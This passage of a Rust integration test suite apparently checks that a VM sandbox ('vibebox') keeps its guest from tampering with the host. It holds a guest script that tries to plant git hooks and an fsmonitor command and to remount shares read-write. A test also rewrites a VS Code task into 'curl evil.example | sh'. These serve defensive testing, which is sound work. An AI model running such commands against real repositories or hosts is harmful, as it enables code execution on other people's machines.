        &["checkout", "-q", "-f", "-b", "review", "vibebox/agent"],
    );
    host_git(&p, &["checkout", "-q", "-f", "main"]);
    host_git(&p, &["status"]);
    assert!(!proof_hook.exists(), "a guest hook ran on the host");
    assert!(
        !proof_fsmonitor.exists(),
        "a guest fsmonitor ran on the host"
    );

    // Guest root goes around its git layer: unmounts it, remounts the share
    // read-write, mounts the share again elsewhere, and writes through each.
    let before = snapshot(&p.join(".git"));
    let attack = format!(
        r##"S=; [ "$(id -u)" = 0 ] || S="sudo -n"
hit() {{
  $S sh -c "printf '[core]\n\tfsmonitor = \"touch {fsm}\"\n' >> '$1/config'" 2>/dev/null && echo "BREACH wrote $1/config"
  $S sh -c "printf '#!/bin/sh\ntouch {hook}\n' > '$1/hooks/post-checkout' && chmod +x '$1/hooks/post-checkout'" 2>/dev/null && echo "BREACH wrote $1/hooks"
  $S sh -c "echo 'ref: refs/heads/evil' > '$1/HEAD'" 2>/dev/null && echo "BREACH wrote $1/HEAD"
  $S sh -c "echo x > '$1/objects/planted'" 2>/dev/null && echo "BREACH wrote $1/objects"
  [ -e "$1/index" ] && $S rm "$1/index" 2>/dev/null && echo "BREACH removed $1/index"
  $S mv "$1" "$1.moved" 2>/dev/null && echo "BREACH moved $1"
}}
$S umount .git || $S umount -l .git
$S umount .git 2>/dev/null
findmnt -no FSTYPE -T .git
hit "$PWD/.git"
$S mount -o remount,rw "$PWD" && echo remounted
hit "$PWD/.git"
$S mkdir -p /mnt/again && $S mount -t virtiofs vbx0 /mnt/again && echo mounted again
hit /mnt/again/.git
exit 0
"##,
        fsm = proof_fsmonitor.display(),
        hook = proof_hook.display()
    );
    let out = b.exec(&attack);
    let log = ok(&out).to_string();
    let diff = snapshot_diff(&before, &snapshot(&p.join(".git")));
    assert!(
        diff.is_empty(),
        "the guest changed the host's .git: {diff:?}\nguest: {log}"
    );
    assert!(!log.contains("BREACH"), "{log}");
    host_git(&p, &["status"]);
    host_git(&p, &["checkout", "-q", "-f", "review"]);
    assert!(!proof_hook.exists() && !proof_fsmonitor.exists());

    // The explain text says what protects .git, and each protected path.
    let out = b.vibebox(&["explain"]);
    let text = ok(&out);
    assert!(
        text.contains(&format!(
            "{}  read-only (enforced on the host)",
            p.join(".git").display()
        )),
        "{text}"
    );
    assert!(
        text.contains("\n  .claude/  read-only (enforced on the host)\n"),
        "{text}"
    );
    assert!(
        text.contains(
            "\n  tools/*.sh  read-only (enforced on the host) for what matched at the start (1)"
        ),
        "{text}"
    );
    assert!(
        text.contains("\n  .vscode/  watched: ") && text.contains("not there at the start"),
        "{text}"
    );

    // protect_mode = "ro": guest root cannot write what existed at the start.
    let out = b.exec(
        r#"S=; [ "$(id -u)" = 0 ] || S="sudo -n"
$S sh -c 'echo evil >> .claude/settings.json' 2>/dev/null && echo "BREACH .claude/settings.json"
$S sh -c 'echo evil > .claude/hooks.json' 2>/dev/null && echo "BREACH .claude/hooks.json"
$S sh -c 'echo evil >> tools/run.sh' 2>/dev/null && echo "BREACH tools/run.sh"
$S rm -rf .claude 2>/dev/null; $S mv tools/run.sh tools/x 2>/dev/null
exit 0"#,
    );
    assert!(!ok(&out).contains("BREACH"), "{}", out.stdout);
    assert_eq!(
        fs::read_to_string(p.join(".claude/settings.json")).unwrap(),
        "{}\n"
    );
    assert!(!p.join(".claude/hooks.json").exists());
    assert_eq!(
        fs::read_to_string(p.join("tools/run.sh")).unwrap(),
        "echo hi\n"
    );
    assert!(!out.stderr.contains("protected path"), "{}", out.stderr);

    // Watched (.vscode/ was not there at the start): the guest writes a task; the
    // next host command names it with its lines.
    let out =
        b.exec(r#"mkdir -p .vscode && printf '{\n  "command": "make"\n}\n' > .vscode/tasks.json"#);
    ok(&out);
    let out = b.vibebox(&["exec", "--", "true"]);
    assert!(
        out.stderr.contains("1 protected path changed")
            && out.stderr.contains(
                ".vscode/tasks.json: new (file, 24 bytes) (+3 -0): +{ +  \"command\": \"make\" …"
            ),
        "{}",
        out.stderr
    );
    // Accepting without a terminal names what was reviewed, by its digest.
    let accept = || {
        let shown = ok(&b.vibebox(&["protected"])).to_string();
        let digest = shown
            .split("--expect ")
            .nth(1)
            .and_then(|r| r.get(..32))
            .expect("the digest is printed")
            .to_string();
        b.vibebox(&["protected", "--accept", "--expect", &digest])
    };
    let out = accept();
    assert!(ok(&out).starts_with("accepted 1 change "), "{}", out.stdout);
    let out = b.vibebox(&["exec", "--", "true"]);
    assert!(!out.stderr.contains("protected path"), "{}", out.stderr);

    // The guest changes the accepted task: named when that client ends, and at
    // the next command; `vibebox protected` shows the diff; accepting clears it.
    let out = b.exec(r#"sed -i 's/"make"/"curl evil.example | sh"/' .vscode/tasks.json"#);
    let change = ".vscode/tasks.json: changed (+1 -1): -  \"command\": \"make\" +  \"command\": \"curl evil.example | sh\"";
    assert!(out.stderr.contains(change), "{}", out.stderr);
    let out = b.vibebox(&["ssh-config"]);
    assert!(out.stderr.contains(change), "{}", out.stderr);
    let out = b.vibebox(&["protected"]);
    let text = ok(&out);
    assert!(
        text.contains(".vscode/tasks.json: changed\n     {\n    -  \"command\": \"make\"\n    +  \"command\": \"curl evil.example | sh\"\n     }\n"),
        "{text}"
    );
    ok(&accept());
    let out = b.vibebox(&["exec", "--", "true"]);
    assert!(!out.stderr.contains("protected path"), "{}", out.stderr);
    assert!(ok(&b.vibebox(&["protected"])).starts_with("no changes"));
}

// ---- the aarch64 lane: the Mac's guest architecture, emulated here ----

/// Whether `images` holds a built image for `arch` (its image.toml says so).
fn has_image_for(images: &Path, arch: &str) -> bool {
    fs::read_dir(images).is_ok_and(|rd| {
        rd.filter_map(|e| e.ok()).any(|e| {
            fs::read_to_string(e.path().join("image.toml"))
                .ok()
                .and_then(|t| toml::from_str::<toml::Table>(&t).ok())
                .is_some_and(|m| m.get("arch").and_then(|a| a.as_str()) == Some(arch))
        })
    })
}

/// What Apple Silicon users run (but hvf): an aarch64 guest (`VIBEBOX_ARCH`,
/// emulated with TCG on this x86_64 host) on `-machine virt`, its shares over 9p,
/// in two boots. The first: exec in the project at its host path (exit codes,
/// stdin), the project and a rw mount written both ways and host edits seen live,
/// the allowlist through the gateway (an allowed name answers, a refused name
/// never resolves nor leaves the host, an IP literal goes nowhere), the
/// interactive shell's `:`-commands, a stop. The second: the disk as it was left.
#[test]
fn aarch64_guest_lifecycle_colon_and_network() {
    let Some(images) = common::test_images() else {
        return;
    };
    if !has_image_for(&images, "aarch64") {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI must build the aarch64 image into {} (.ci/run)",
            images.display()
        );
        eprintln!("skipped: no aarch64 image in {}", images.display());
        return;
    }
    if !is_root() {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI runs the VM tests as root"
        );
        eprintln!("skipped: the network checks make network namespaces (needs root)");
        return;
    }
    if which::which("tmux").is_err() {
        assert!(std::env::var_os("CI").is_none(), "CI must install tmux");
        return;
    }
    let _vm = vm_lock();
    let lab = NetLab::new();
    let scratch = tempfile::Builder::new()
        .prefix("vbx-arm-")
        .tempdir()
        .unwrap();
    let config = format!(
        "[box]\nmounts = [\"{}:scratch\"]\n[network]\nmode = \"allowlist\"\nentries = [\"**.allowed.test\"]\n",
        scratch.path().display()
    );
    let mut b = Box::new(&images, "arm", &config);
    b.env_vars.push(("VIBEBOX_ARCH".into(), "aarch64".into()));
    b.env_vars.push((
        "VIBEBOX_DNS_UPSTREAM".into(),
        format!("127.0.0.1:{}", lab.dns_port),
    ));
    fs::write(b.project.join("from-host.txt"), "host wrote\n").unwrap();
    fs::write(scratch.path().join("given.txt"), "in scratch\n").unwrap();

    // Boot 1: an aarch64 kernel, the project at its path, shares written both ways.
    let out = b.exec(
        "uname -m; pwd; cat from-host.txt ~/scratch/given.txt; echo guest wrote > from-guest.txt; echo home > ~/scratch/h.txt; findmnt -no FSTYPE -T .; findmnt -no FSTYPE -T ~/scratch",
    );
    assert_eq!(
        ok(&out),
        format!(
            "aarch64\n{}\nhost wrote\nin scratch\n9p\n9p\n",
            b.project.display()
        ),
        "stderr: {}",
        out.stderr
    );
    assert_eq!(
        fs::read_to_string(b.project.join("from-guest.txt")).unwrap(),
        "guest wrote\n"
    );
    assert_eq!(
        fs::read_to_string(scratch.path().join("h.txt")).unwrap(),
        "home\n"
    );
    // The emulator is the aarch64 one, under TCG.
    let qemu_pid = b.instance()["qemu_pid"].as_integer().unwrap();
    let cmdline = fs::read(format!("/proc/{qemu_pid}/cmdline")).unwrap();
    let argv: Vec<String> = cmdline
        .split(|c| *c == 0)
        .map(|a| String::from_utf8_lossy(a).into_owned())
        .collect();
    assert!(
        argv[0].ends_with("qemu-system-aarch64")
            && argv.iter().any(|a| a.starts_with("tcg"))
            && argv.iter().any(|a| a.starts_with("virt")),
        "{argv:?}"
    );
    // A host edit to a shared file is what the running guest reads next.
    fs::write(b.project.join("from-host.txt"), "host edited\n").unwrap();
    assert_eq!(ok(&b.exec("cat from-host.txt")), "host edited\n");
    // Exit codes and stdin pass through.
    assert_eq!(b.exec("exit 7").code, 7);
    let mut c = b.cmd();
    c.args(["exec", "--", "sh", "-c", "tr a-z A-Z"]);
    let o = common::run_with_input(c, b"piped input\n");
    assert!(o.status.success());
    assert_eq!(String::from_utf8_lossy(&o.stdout), "PIPED INPUT\n");

    // The network policy, enforced by the host's gateway for this guest as for
    // x86_64 ones.
    lab.asked.lock().unwrap().clear();
    let before = lab.served().len();
    let out = b.exec(concat!(
        "t() { printf '%s=' \"$1\"; shift; out=$(\"$@\" 2>/dev/null); rc=$?; ",
        "printf '%s|%s\\n' \"$rc\" \"$(printf %s \"$out\" | tr -d '\\r\\n')\"; }\n",
        "t https curl -sk -m 30 https://allowed.test/\n",
        "t other_dns getent hosts other.test\n",
        "t literal curl -sk -m 15 https://198.51.100.10/\n",
    ));
    let text = ok(&out).to_string();
    let served = lab.served()[before..].to_string();
    let ctx = format!("guest:\n{text}\nservers:\n{served}\nlogs:\n{}", b.logs());
    assert_eq!(
        probe(&text, "https"),
        ("0".into(), "allowed-https".into()),
        "{ctx}"
    );
    assert_ne!(probe(&text, "other_dns").0, "0", "{ctx}");
    assert_ne!(probe(&text, "literal").0, "0", "{ctx}");
    assert!(lab.was_asked("allowed.test"), "{ctx}");
    assert!(!lab.was_asked("other.test"), "{ctx}");
    assert!(!served.contains("other.test"), "{ctx}");

    // The interactive shell and its `:`-commands, attached to the running VM.
    ok(&b.exec("echo keep > /var/tmp/keep.txt && sync"));
    let id = b.id();
    let term = Term::start(
        &b,
        &format!(
            "cd '{}' && export VIBEBOX_HOME='{}' HOME='{}' VIBEBOX_VIRTIOFSD=off VIBEBOX_ARCH=aarch64; '{}'; echo VIBEBOX-EXIT=$?; sleep 600",
            b.project.display(),
            b.env.vibebox_home().display(),
            b.env.home().display(),
            env!("CARGO_BIN_EXE_vibebox")
        ),
    );
    let wait_for = |needle: &str, secs: u64| term.wait_n(&b, needle, 1, secs);
    let keys = |k: &str| term.keys(k);
    keys("echo ARCH-IS-$(uname -m)");
    wait_for("ARCH-IS-aarch64", 300);
    keys(":explain");
    wait_for(&format!("(session {id})"), 60);
    keys(":new");
    wait_for("[y/N]", 60);
    keys("n");
    wait_for("kept session", 60);
    keys(":exit");
    wait_for("VIBEBOX-EXIT=0", 60);
    drop(term);
    assert_eq!(b.id(), id);

    let out = b.vibebox(&["stop"]);
    assert!(ok(&out).contains("stopped session"), "{}", out.stdout);
    assert_eq!(b.status().0, "stopped");
    b.qemu_img_check();

    // Boot 2: the same session's disk, as the first boot left it.
    assert_eq!(
        ok(&b.exec("cat /var/tmp/keep.txt; uname -m")),
        "keep\naarch64\n"
    );
    assert_eq!(b.id(), id);
    let out = b.vibebox(&["stop"]);
    assert!(ok(&out).contains("stopped session"), "{}", out.stdout);
    b.qemu_img_check();
}
